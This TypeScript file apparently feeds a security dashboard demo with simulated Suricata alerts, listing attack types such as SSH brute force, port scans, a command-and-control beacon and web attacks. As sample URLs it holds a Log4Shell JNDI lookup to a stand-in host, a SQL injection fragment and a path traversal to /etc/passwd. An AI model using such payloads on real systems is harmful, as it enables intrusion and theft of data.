/** One kind of attack that the demo plays, as a rule of Suricata would report it. */
export interface DemoAttack {
  readonly signatureId: number;
  readonly signature: string;
  readonly category: string;
  /** Suricata's priority: 1 is the highest. */
  readonly priority: 1 | 2 | 3 | 4;
  readonly signatureSeverity: 'Critical' | 'Major' | 'Minor' | 'Informational' | null;
  readonly protocol: 'TCP' | 'UDP' | 'ICMP';
  /** Of the attacked service; null for ICMP. */
  readonly port: number | null;
  readonly appProto: string | null;
  /** The site's host calls out to the attacker: malware reporting to its controller. */
  readonly isOutbound: boolean;
  /** How often it is played, next to the others. */
  readonly weight: number;
  /** An HTTP request, where that is what was caught. */
  readonly url: string | null;
}

const SCAN = 'Attempted Information Leak';
const ADMIN = 'Attempted Administrator Privilege Gain';
const WEB = 'Web Application Attack';
const TROJAN = 'A Network Trojan was detected';

export const DEMO_ATTACKS: readonly DemoAttack[] = [
  attack(9100001, 'SSH brute force login', 'Attempted User Privilege Gain', 2, 'TCP', 22, 'ssh', 22),
  attack(9100002, 'Telnet login with default credentials', TROJAN, 1, 'TCP', 23, 'telnet', 14),
  attack(9100003, 'SMB probe', SCAN, 2, 'TCP', 445, 'smb', 12),
  attack(9100004, 'RDP login attempt', 'Attempted User Privilege Gain', 1, 'TCP', 3389, 'rdp', 10),
  attack(9100005, 'TCP SYN scan of many ports', SCAN, 3, 'TCP', 8080, null, 12),
  attack(9100006, 'SIP registration scan', SCAN, 3, 'UDP', 5060, 'sip', 8),
  attack(9100007, 'ICMP ping sweep', 'Misc activity', 3, 'ICMP', null, null, 7),
  attack(9100008, 'NTP monlist amplification attempt', 'Attempted Denial of Service', 2, 'UDP', 123, null, 4),
  attack(9100009, 'MSSQL sa login attempt', 'Attempted User Privilege Gain', 2, 'TCP', 1433, null, 4),
  attack(9100010, 'Redis unauthenticated command', ADMIN, 1, 'TCP', 6379, null, 4),
  attack(9100011, 'Docker API container create', ADMIN, 1, 'TCP', 2375, 'http', 2, '/v1.41/containers/create', 'Major'),
  attack(
    9100012,
    'Log4Shell JNDI lookup',
    ADMIN,
    1,
    'TCP',
    80,
    'http',
    3,
    '/?q=${jndi:ldap://x.example/a}',
    'Critical',
  ),
  attack(
    9100013,
    'SQL injection UNION SELECT',
    WEB,
    1,
    'TCP',
    443,
    'http',
    6,
    '/item?id=1%20UNION%20SELECT%20name',
    'Major',
  ),
  attack(9100014, 'WordPress login flood', WEB, 2, 'TCP', 443, 'http', 6, '/wp-login.php', 'Minor'),
  attack(9100015, 'Path traversal', WEB, 1, 'TCP', 80, 'http', 4, '/cgi-bin/.%2e/.%2e/etc/passwd', 'Major'),
  attack(
    9100016,
    'Security scanner user agent',
    'Not Suspicious Traffic',
    4,
    'TCP',
    80,
    'http',
    8,
    '/',
    'Informational',
  ),
  outbound(
    9100017,
    'Command and control beacon',
    'Malware Command and Control Activity Detected',
    'TCP',
    4444,
    'Critical',
    2,
  ),
  outbound(9100018, 'DNS query for a known bad domain', 'Potentially Bad Traffic', 'UDP', 53, 'Minor', 3),
];

function attack(
  signatureId: number,
  signature: string,
  category: string,
  priority: DemoAttack['priority'],
  protocol: DemoAttack['protocol'],
  port: number | null,
  appProto: string | null,
  weight: number,
  url: string | null = null,
  signatureSeverity: DemoAttack['signatureSeverity'] = null,
): DemoAttack {
  const isOutbound = false;
  return {
    signatureId,
    signature,
    category,
    priority,
    signatureSeverity,
    protocol,
    port,
    appProto,
    isOutbound,
    weight,
    url,
  };
}

function outbound(
  signatureId: number,
  signature: string,
  category: string,
  protocol: DemoAttack['protocol'],
  port: number,
  signatureSeverity: DemoAttack['signatureSeverity'],
  weight: number,
): DemoAttack {
  const appProto = port === 53 ? 'dns' : null;
  const call = attack(signatureId, signature, category, 1, protocol, port, appProto, weight, null, signatureSeverity);
  return { ...call, isOutbound: true };
}
